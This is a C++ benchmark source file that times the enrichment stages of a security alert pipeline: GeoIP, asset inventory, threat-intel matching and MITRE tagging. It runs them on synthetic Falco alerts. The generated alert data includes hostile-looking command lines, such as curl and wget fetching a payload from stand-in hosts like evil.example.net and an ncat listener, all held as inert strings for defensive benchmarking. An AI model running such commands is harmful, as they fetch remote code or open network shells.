// The enrichment stages alone (Google Benchmark): decode + stages against decode only, on one core, with every
// enricher on and realistic tables — 1,000,000 threat-intel indicators across types, 100,000 inventory entries,
// MaxMind's test databases — and each stage on its own. Prints each table's load time and the memory it took, then
// the stages' own rate: alerts per second per core = 1 / (time of decode + stages - time of decode).
//
//   enrich_bench [--geoip-dir DIR] [google benchmark flags]
//   enrich_bench --write-tables DIR     writes the feed (feed.txt) and the inventory (inventory.csv) and exits
//
// Not a test; `make bench` runs it (bench/run.sh, BENCH_ENRICH=0 skips it). docs/benchmarks.md has figures.
#include <benchmark/benchmark.h>
#include <unistd.h>

#include <chrono>
#include <cstdio>
#include <filesystem>
#include <fstream>
#include <map>
#include <random>
#include <string>
#include <vector>

#include <fmt/format.h>

#include "core/decode.hpp"
#include "core/stage.hpp"
#include "observe/metrics.hpp"
#include "pipeline/config.hpp"

namespace {

namespace fs = std::filesystem;
using saker::Metrics;
using saker::StageChain;

std::string g_dir;        // the tables
std::string g_geoip_dir;  // MaxMind's test databases
std::vector<std::string> g_alerts;

long rss_kib() {
  std::ifstream in("/proc/self/status");
  std::string line;
  while (std::getline(in, line)) {
    if (line.rfind("VmRSS:", 0) == 0) return std::stol(line.substr(6));
  }
  return 0;
}

std::string ipv4(std::uint32_t a) { return fmt::format("{}.{}.{}.{}", a >> 24, (a >> 16) & 255, (a >> 8) & 255, a & 255); }

// 1,000,000 indicators: 600k IPv4 addresses, 100k IPv4 CIDRs, 50k IPv6 addresses, 200k domains, 50k SHA-256.
void write_feed(const std::string& path) {
  std::mt19937_64 rng(7);
  std::ofstream out(path);
  out << "# generated for enrich_bench\n";
  for (int i = 0; i < 600000; ++i) out << ipv4(static_cast<std::uint32_t>(rng() | 0x01000000u)) << '\n';
  for (int i = 0; i < 100000; ++i) out << ipv4(static_cast<std::uint32_t>(rng()) & 0xffffff00u) << "/24\n";
  for (int i = 0; i < 50000; ++i) out << fmt::format("2001:db8:{:x}:{:x}::{:x}\n", rng() & 0xffff, rng() & 0xffff, rng() & 0xffff);
  for (int i = 0; i < 200000; ++i) out << fmt::format("h{:x}.example-{}.com\n", rng() & 0xffffff, i % 997);
  for (int i = 0; i < 50000; ++i) out << fmt::format("{:016x}{:016x}{:016x}{:016x}\n", rng(), rng(), rng(), rng());
  out << "evil.example.net\n81.2.69.160/27\n";
}

// 100,000 entries: 95,000 exact hostnames with a namespace, 5,000 globs.
void write_inventory(const std::string& path) {
  std::ofstream out(path);
  out << "match.hostname,match.k8s.ns.name,owner,criticality,team\n";
  for (int i = 0; i < 95000; ++i) out << fmt::format("ip-10-0-{}-{},ns-{},owner-{},high,team-{}\n", i / 250, i % 250, i % 50, i, i % 40);
  for (int i = 0; i < 5000; ++i) out << fmt::format("ip-10-{}-*,,group-{},medium,team-{}\n", i, i, i % 40);
}

// Alerts as Falco writes them, a quarter with addresses the tables know of.
void make_alerts() {
  std::mt19937 rng(11);
  const char* cmds[] = {"curl -s http://evil.example.net/payload.sh", "ncat -l 8080", "sh -c 'wget https://h1.example-3.com/x'",
                        "python3 app.py --port 8000", "openssl enc -d -aes256 -in /tmp/p"};
  const char* ips[] = {"81.2.69.142", "216.160.83.56", "10.0.3.4", "1.128.0.1", "8.8.8.8", "203.0.113.9"};
  for (int i = 0; i < 4096; ++i) {
    const int host = static_cast<int>(rng() % 100000);
    std::string fields = fmt::format(
        R"("container.id":"72837759a5c2","container.image.repository":"docker.io/falcosecurity/event-generator","k8s.ns.name":"ns-{}","k8s.pod.name":"p-{}","proc.cmdline":"{}","proc.name":"ncat","proc.exepath":"/usr/bin/ncat","user.name":"root","user.uid":0,"evt.type":"execve")",
        host % 50, i, cmds[rng() % 5]);
    if (i % 2 == 0) {
      fields += fmt::format(R"(,"fd.sip":"{}","fd.cip":"10.0.0.{}","fd.name":"10.0.0.{}:40000->{}:443")", ips[rng() % 6], i % 250,
                            i % 250, ips[rng() % 6]);
    }
    g_alerts.push_back(fmt::format(
        R"({{"uuid":"u-{}","output":"Warning netcat","priority":"Warning","rule":"Netcat Remote Code Execution in Container","time":"2025-06-02T08:00:00.001148211Z","output_fields":{{{}}},"source":"syscall","tags":["container","network","mitre_execution","T1059"],"hostname":"ip-10-0-{}-{}"}})",
        i, fields, host / 250, host % 250));
  }
}

struct Chain {
  Metrics metrics;
  StageChain chain;
  std::shared_ptr<const saker::PipelineConfig> cfg;
};

std::map<std::string, std::unique_ptr<Chain>> g_chains;

std::string stage_yaml(const std::string& which) {
  const std::string geoip = fmt::format("  geoip: {{city_database: {0}/GeoIP2-City-Test.mmdb, asn_database: {0}/GeoLite2-ASN-Test.mmdb}}\n", g_geoip_dir);
  const std::string assets = fmt::format("  assets: {{path: {}/inventory.csv}}\n", g_dir);
  const std::string intel = fmt::format("  threat_intel: {{feeds: [{{name: bench, type: list, path: {}/feed.txt}}]}}\n", g_dir);
  const std::string fields = "  fields: {static: {env: prod, cluster: eu-1}, templated: {summary: \"{rule} on {hostname} by {user.name}\"}}\n  mitre: true\n";
  if (which == "geoip") return geoip;
  if (which == "assets") return assets;
  if (which == "threat_intel") return intel;
  if (which == "fields+mitre") return fields;
  return fields + geoip + assets + intel;
}

Chain& chain(const std::string& which) {
  auto& c = g_chains[which];
  if (c) return *c;
  c = std::make_unique<Chain>();
  const long before = rss_kib();
  const auto t0 = std::chrono::steady_clock::now();
  saker::ConfigErrors errors("bench.yaml");
  c->cfg = saker::parse_config("enrich:\n" + stage_yaml(which) + "sinks: [{name: out, type: stdout}]\n", errors,
                               saker::ConfigUse::replay);
  if (!c->cfg) {
    std::fprintf(stderr, "%s\n", errors.to_string().c_str());
    std::exit(1);
  }
  for (const auto& s : c->cfg->stages) {
    saker::StageContext ctx{s.name, c->metrics, g_dir};
    c->chain.add(s.name, s.build(ctx), c->metrics.timing("t", "t", {{"stage", s.name}}));
  }
  const double ms = std::chrono::duration<double, std::milli>(std::chrono::steady_clock::now() - t0).count();
  std::printf("load %-14s %8.0f ms  %7.1f MiB\n", which.c_str(), ms, static_cast<double>(rss_kib() - before) / 1024.0);
  std::fflush(stdout);
  return *c;
}

void BM_Decode(benchmark::State& state) {
  saker::Decoder d;
  d.set_stages(true);
  std::size_t i = 0;
  for (auto _ : state) {
    auto a = d.decode(g_alerts[i++ & 4095]);
    benchmark::DoNotOptimize(a);
  }
  state.SetItemsProcessed(static_cast<std::int64_t>(state.iterations()));
}

void BM_DecodeAndStages(benchmark::State& state, const std::string& which) {
  Chain& c = chain(which);
  saker::Decoder d;
  d.set_stages(true);
  std::size_t i = 0;
  for (auto _ : state) {
    auto a = d.decode(g_alerts[i++ & 4095]);
    c.chain.run(*a.value());
    benchmark::DoNotOptimize(a);
  }
  state.SetItemsProcessed(static_cast<std::int64_t>(state.iterations()));
}

// Keeps each run's time per alert, to print the stages' own rate after.
class Reporter : public benchmark::ConsoleReporter {
 public:
  std::map<std::string, double> ns;
  void ReportRuns(const std::vector<Run>& runs) override {
    for (const Run& r : runs) {
      const double t = r.GetAdjustedCPUTime() * (r.time_unit == benchmark::kMicrosecond ? 1e3 : 1.0);
      if (r.run_type == Run::RT_Iteration && r.iterations > 0 && !ns.count(r.run_name.function_name)) {
        ns[r.run_name.function_name] = t;  // the first repetition, until a median comes
      } else if (r.run_type == Run::RT_Aggregate && r.aggregate_name == "median") {
        ns[r.run_name.function_name] = t;
      }
    }
    ConsoleReporter::ReportRuns(runs);
  }
};

}  // namespace

int main(int argc, char** argv) {
  std::vector<char*> args;
  for (int i = 0; i < argc; ++i) {
    if (std::string(argv[i]) == "--write-tables" && i + 1 < argc) {
      fs::create_directories(argv[i + 1]);
      write_feed(std::string(argv[i + 1]) + "/feed.txt");
      write_inventory(std::string(argv[i + 1]) + "/inventory.csv");
      return 0;
    }
    if (std::string(argv[i]) == "--geoip-dir" && i + 1 < argc) {
      g_geoip_dir = argv[++i];
    } else {
      args.push_back(argv[i]);
    }
  }
  if (g_geoip_dir.empty()) g_geoip_dir = std::string(SAKER_SOURCE_DIR) + "/tests/data/geoip";
  g_dir = (fs::temp_directory_path() / fmt::format("saker-enrich-bench-{}", ::getpid())).string();
  fs::create_directories(g_dir);
  write_feed(g_dir + "/feed.txt");
  write_inventory(g_dir + "/inventory.csv");
  make_alerts();
  for (const char* s : {"geoip", "assets", "threat_intel", "fields+mitre", "all"}) chain(s);
  int n = static_cast<int>(args.size());
  benchmark::Initialize(&n, args.data());
  benchmark::RegisterBenchmark("decode", BM_Decode);
  for (const char* s : {"fields+mitre", "geoip", "assets", "threat_intel", "all"}) {
    benchmark::RegisterBenchmark(fmt::format("decode+{}", s).c_str(), [s](benchmark::State& st) { BM_DecodeAndStages(st, s); });
  }
  Reporter reporter;
  benchmark::RunSpecifiedBenchmarks(&reporter);
  const double base = reporter.ns["decode"];
  std::printf("\nstage(s) alone, one core (CPU time of decode+stages minus decode):\n");
  for (const char* s : {"fields+mitre", "geoip", "assets", "threat_intel", "all"}) {
    const double t = reporter.ns[fmt::format("decode+{}", s)] - base;
    if (t > 0) std::printf("  %-14s %7.0f ns/alert  %10.0f alerts/s\n", s, t, 1e9 / t);
  }
  fs::remove_all(g_dir);
  return 0;
}
